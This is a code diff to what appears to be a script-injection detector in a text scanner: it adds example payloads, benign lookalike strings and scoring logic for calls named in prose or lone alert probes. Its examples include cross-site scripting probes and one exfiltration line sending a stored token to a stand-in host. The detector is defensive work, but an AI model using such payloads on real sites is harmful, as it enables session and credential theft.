@@ -1,8 +1,17 @@
 import { charClass } from '../../text/char-class.ts';
-import { endOf, kindAt, type ScriptTokens, startOf } from '../../tokenise/script.ts';
+import {
+  endOf,
+  isAdjacent,
+  isQuote,
+  kindAt,
+  type ScriptTokens,
+  scriptKind,
+  startOf,
+  wordAt,
+} from '../../tokenise/script.ts';
 import type { Match, ValueRule } from '../rule.ts';
 import type { Subject } from '../subject.ts';
-import type { ScriptEvidence } from './script-evidence.ts';
+import { mark, type ScriptEvidence } from './script-evidence.ts';
 import { mayHoldScript } from './script-hint.ts';
 import { type ScriptPieces, scriptPieces, strongestScript } from './script-pieces.ts';
 import { scriptWords } from './script-words.ts';
@@ -26,6 +35,8 @@ export const scriptCall: ValueRule = {
     'onerror=alert;throw 1',
     '[7].map(prompt)',
     'setTimeout("go()",5)',
+    "Reflect.get(window,'alert')(1)",
+    "fetch('//evil.test/'+localStorage.token)",
   ],
   lookalikes: [
     'The `alert()` function shows a dialog, `confirm` asks a question (yes or no).',
@@ -34,6 +45,11 @@ export const scriptCall: ValueRule = {
     "const response = await fetch('https://api.example.org/items');",
     'print("Hello, world!")',
     'setTimeout(() => setCount(count + 1), 1000)',
+    'alert(1) meaning',
+    "if (confirm('Delete this item?')) { remove(item) }",
+    'name = input(prompt("Name? "))',
+    'el.onclick = function() { alert(this.id) }',
+    'Never use `eval(name)`; parse the text.',
   ],
 };
 
@@ -42,7 +58,7 @@ function judgeScriptCall(subject: Subject): Match | undefined {
   if (!subject.tokens(mayHoldScript)) return undefined;
   const pieces = subject.tokens(scriptPieces);
   const { tokens } = pieces;
-  if (!tokens.isComplete) subject.incomplete('tokens');
+  if (!pieces.isComplete) subject.incomplete('tokens');
   const evidence = strongestScript(pieces, 0, subject.text.length);
   if (evidence.strength < 2) return undefined;
   return matchOf(tokens, evidence, scoreOf(pieces, evidence));
@@ -53,10 +69,58 @@ const callClasses = charClass.paren | charClass.backtick | charClass.equals;
 
 function scoreOf(pieces: ScriptPieces, evidence: ScriptEvidence): number {
   const prose = pieces.isProse;
+  if (evidence.strength >= 3 && isTalkedAbout(pieces.tokens, evidence)) return 60;
   if (evidence.strength === 4) return prose ? 80 : 92;
   if (evidence.strength === 3) return prose ? 60 : 82;
+  if (evidence.strength === 2 && isLoneAlert(pieces.tokens, evidence)) return 74;
   if (prose) return 30;
   return isWholeText(pieces.tokens, evidence) ? 60 : 40;
+}
+
+/** The call is named among words: `alert(1) meaning`, or a code span of Markdown in a sentence. */
+function isTalkedAbout(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
+  const isSpan =
+    kindAt(tokens, first - 1) === mark.backtick && kindAt(tokens, last) === mark.backtick;
+  if (isSpan) return isPlainWord(tokens, first - 2) || isPlainWord(tokens, last + 1);
+  const words = tokens.count - (last - first);
+  if (words < 1 || words > queryWordsMax || tokens.count <= last) return false;
+  for (let i = 0; i < tokens.count; i++) {
+    if (i === first) i = last;
+    if (i < tokens.count && !isPlainWord(tokens, i)) return false;
+  }
+  return true;
+}
+
+/** Longer search queries are prose by the count of their words. */
+const queryWordsMax = 8;
+
+/** A word, with white space on the side of the call, that is no part of the script grammar. */
+function isPlainWord(tokens: ScriptTokens, i: number): boolean {
+  if (kindAt(tokens, i) !== scriptKind.word || isAdjacent(tokens, i)) return false;
+  const word = wordAt(tokens, i);
+  return !operators.has(word) && !word.startsWith('on') && !word.startsWith('auto');
+}
+
+/** Words between which and a call no operator is missing. */
+const operators: ReadonlySet<string> = new Set([
+  'await',
+  'delete',
+  'else',
+  'in',
+  'instanceof',
+  'new',
+  'return',
+  'throw',
+  'typeof',
+  'void',
+  'yield',
+]);
+
+/** `window.alert("Hi there!");`, and nothing else: nobody writes that into a form but to try it. */
+function isLoneAlert(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
+  if (wordAt(tokens, first) !== 'alert' || tokens.count - last > 1) return false;
+  const isBare = first === 0 || (first === 2 && wordAt(tokens, 0) === 'window');
+  return isBare && isQuote(kindAt(tokens, first + 2));
 }
 
 /** The piece is all that the text holds, but for punctuation. */
